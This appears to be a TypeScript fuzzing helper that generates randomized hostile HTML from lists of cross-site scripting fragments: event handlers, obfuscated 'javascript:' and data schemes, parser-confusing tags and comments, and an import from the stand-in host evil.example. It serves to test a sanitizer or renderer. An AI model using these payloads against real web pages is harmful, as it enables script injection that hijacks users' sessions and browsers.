import type { SeededRandom } from '../../../scripts/demo/responses/seededRandom.ts'

const scripts = ['alert(1)', 'parent.attacked=1', '`${alert(1)}`', 'import("//evil.example")']
const handlers = ['onerror', 'onload', 'OnClick', 'onfocus', 'onanimationstart', 'ontoggle', 'on\u0000load', 'onpointerrawupdate']
const tags = [
  'script', 'ScRiPt', 'svg', 'math', 'mtext', 'mglyph', 'malignmark', 'annotation-xml', 'foreignObject', 'style', 'title', 'textarea', 'noscript',
  'template', 'iframe', 'object', 'embed', 'base', 'meta', 'link', 'form', 'input', 'button', 'select', 'option', 'table', 'td', 'caption', 'xmp',
  'plaintext', 'noembed', 'frameset', 'details', 'dialog', 'marquee', 'video', 'audio', 'source', 'img', 'image', 'a', 'p', 'span', 'li', 'body', 'html',
  'h1', 'blockquote', 'custom-element', 'br', 'p\u0000', 'sc\nript', 'a/b',
] // oxfmt-ignore
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', 'vbscript:', 'data:text/html,', 'data:image/svg+xml;base64,', 'blob:', 'file:', '//evil.example/', '/\\evil.example/', 'https:evil.example', 'http://a@evil.example/'] // oxfmt-ignore
const names = ['href', 'src', 'srcdoc', 'style', 'id', 'name', 'class', 'xlink:href', 'action', 'formaction', 'background', 'poster', 'srcset', 'ping', 'data', 'is', 'slot', 'target', 'title', 'alt'] // oxfmt-ignore
const quotes = ['"', "'", '`', '']
const comments = [
  '<!--',
  '-->',
  '<!-->',
  '<!--->',
  '--!>',
  '<![CDATA[',
  ']]>',
  '<?xml ?>',
  '<!DOCTYPE x>',
  '</',
  '<',
  '>',
  '&lt;',
  '&#x3c;',
  '\u0000',
  '\ufeff',
]

const address = (random: SeededRandom) => random.oneOf(schemes) + random.oneOf(scripts)

function attribute(random: SeededRandom): string {
  const quote = random.oneOf(quotes)
  const space = random.oneOf([' ', '\n', '/', '\t', '\f', ''])
  if (random.chance(0.4)) return `${space || ' '}${random.oneOf(handlers)}=${quote}${random.oneOf(scripts)}${quote}`
  return `${space || ' '}${random.oneOf(names)}${random.oneOf(['=', ' = ', '\n='])}${quote}${address(random)}${random.chance(0.9) ? quote : ''}`
}

function element(random: SeededRandom, depth: number): string {
  const tag = random.oneOf(tags)
  const attributes = Array.from({ length: random.below(4) }, () => attribute(random)).join('')
  const inner = depth === 0 ? random.oneOf(scripts) : parts(random, depth - 1)
  const end = random.chance(0.75) ? `</${random.chance(0.9) ? tag : random.oneOf(tags)}${random.oneOf(['>', ' >', '/>'])}` : ''
  return `<${tag}${attributes}${random.oneOf(['>', '>', '>', '/>', ''])}${inner}${end}`
}

const part = (random: SeededRandom, depth: number) =>
  random.chance(0.2) ? random.oneOf(comments) : random.chance(0.2) ? random.oneOf(scripts) : element(random, depth)
const parts = (random: SeededRandom, depth: number): string =>
  Array.from({ length: 1 + random.below(3) }, () => part(random, depth)).join('')

/** A hostile rich text: tags of every kind of content, nested wrongly, with handlers and addresses, then cut, doubled and turned around. */
export function hostileHtml(random: SeededRandom): string {
  let html = parts(random, 5)
  for (let turn = random.below(4); turn > 0; turn--) {
    const [from, to] = [random.below(html.length), random.below(html.length)].toSorted((a, b) => a - b) as [number, number]
    const piece = html.slice(from, to)
    html = random.oneOf([
      () => html.slice(0, from) + html.slice(to),
      () => html.slice(0, to) + piece + html.slice(to),
      () => html.slice(0, from) + random.oneOf(comments) + html.slice(from),
      () => html.slice(0, from) + piece.replace(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`) + html.slice(to),
      () => html.slice(0, from) + piece.toUpperCase() + html.slice(to),
    ])()
  }
  return html
}
